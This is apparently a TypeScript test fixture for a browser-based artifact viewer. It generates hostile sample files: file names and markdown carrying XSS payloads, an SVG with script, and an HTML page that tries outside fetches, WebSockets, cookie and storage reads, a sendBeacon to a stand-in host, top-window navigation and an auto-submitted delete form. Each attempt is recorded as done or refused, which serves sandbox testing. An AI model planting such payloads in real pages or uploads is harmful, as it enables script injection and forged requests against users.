// Files that try what files can try, and names that are hard to write down.
import type { Page } from "playwright-core";
import { HOSTILE } from "./fill";

export const NAMES = [`"quotes" and 'more'.txt`, "<img src=x onerror=alert(1)>.txt", "日本語 ☃.txt", "a#b?c%20d&e.txt"];
export const PDF = `%PDF-1.1
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>endobj
4 0 obj<</Length 40>>stream
BT /F 24 Tf 20 40 Td (A PDF page) Tj ET
endstream endobj
trailer<</Root 1 0 R>>
%%EOF`;
export const MARKDOWN = `# Report\n\n${HOSTILE}\n\n<script>alert(1)</script>\n\n[go](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) ![pixel](https://elsewhere.example/p.png)\n\n\`\`\`\n</pre><script>alert(1)</script>\n\`\`\`\n`;
/** Everything that a page can try, each with what became of it. */
export const html = (elsewhere: string) => `<!doctype html><h1>A report</h1><p id="drawn" style="color: rgb(0, 114, 178)"></p><ul></ul>
<img src="x" onerror="alert(1)"><img src="${elsewhere}/p.png"><a href="${elsewhere}/" target="_top">away</a><a href="${elsewhere}/" target="_blank">new</a>
<iframe src="/"></iframe><form action="/api/2.0/mlflow/runs/delete" method="post"><button>Send</button></form>
<link rel="stylesheet" href="${elsewhere}/s.css"><object data="${elsewhere}/o"></object><video src="${elsewhere}/v"></video><script src="${elsewhere}/s.js"></script>
<script>
const tell = (what, became) => { const item = document.createElement("li"); item.textContent = what + ": " + became; document.querySelector("ul").append(item); };
const tries = {
  server: () => fetch("/api/2.0/mlflow/experiments/search", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" }),
  file: () => fetch("/get-artifact"),
  elsewhere: () => fetch("${elsewhere}/f"),
  socket: () => new Promise((done, refused) => { const socket = new WebSocket("${elsewhere}".replace("http", "ws")); socket.onopen = done; socket.onerror = refused; }),
  worker: () => new Promise((done, refused) => { const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); worker.onmessage = done; worker.onerror = refused; }),
  parent: () => { parent.document.title = "owned"; },
  top: () => { top.location = "${elsewhere}/t"; },
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  popup: () => { if (!open("${elsewhere}/w")) throw new Error("no window"); },
};
drawn.textContent = new Function("return 'ran'")();
alert(1);
navigator.sendBeacon("${elsewhere}/b", "x");
Promise.all(Object.entries(tries).map(async ([what, attempt]) => {
  try { await attempt(); tell(what, "done"); } catch { tell(what, "refused"); }
})).then(() => { document.forms[0].submit(); tell("all", "tried"); });
</script>`;
export const away = (where: string) => `<!doctype html><h1>A moment</h1><script>setTimeout(() => { location = "${where}"; }, 2_000)</script>`;
export const svg = (elsewhere: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="150"><script>alert(1)</script><rect width="300" height="150" fill="#0072b2" onclick="alert(1)"/><image href="${elsewhere}/p.png"/></svg>`;

/** A second of a tone. */
export function wav(): Uint8Array<ArrayBuffer> {
  const rate = 8000;
  const view = new DataView(new ArrayBuffer(44 + rate));
  const words = (at: number, text: string) => [...text].forEach((letter, index) => view.setUint8(at + index, letter.charCodeAt(0)));
  words(0, "RIFF");
  view.setUint32(4, 36 + rate, true);
  words(8, "WAVEfmt ");
  view.setUint32(16, 16, true);
  view.setUint16(20, 1, true);
  view.setUint16(22, 1, true);
  view.setUint32(24, rate, true);
  view.setUint32(28, rate, true);
  view.setUint16(32, 1, true);
  view.setUint16(34, 8, true);
  words(36, "data");
  view.setUint32(40, rate, true);
  for (let at = 0; at < rate; at += 1) view.setUint8(44 + at, 128 + 60 * Math.sin(at / 3));
  return new Uint8Array(view.buffer);
}

/** A second of a red square, as this browser records it. */
export async function video(page: Page): Promise<Uint8Array<ArrayBuffer>> {
  const numbers = await page.evaluate(async () => {
    const canvas = document.createElement("canvas");
    canvas.width = canvas.height = 64;
    const pen = canvas.getContext("2d");
    const recorder = new MediaRecorder(canvas.captureStream(10), { mimeType: "video/webm" });
    const pieces: Blob[] = [];
    recorder.ondataavailable = (event) => pieces.push(event.data);
    recorder.start();
    for (let at = 0; at < 10; at += 1) {
      if (pen) pen.fillStyle = at % 2 ? "red" : "darkred";
      pen?.fillRect(0, 0, 64, 64);
      await new Promise((done) => setTimeout(done, 100));
    }
    recorder.stop();
    await new Promise((done) => recorder.addEventListener("stop", done));
    return [...new Uint8Array(await new Blob(pieces).arrayBuffer())];
  });
  return new Uint8Array(numbers);
}
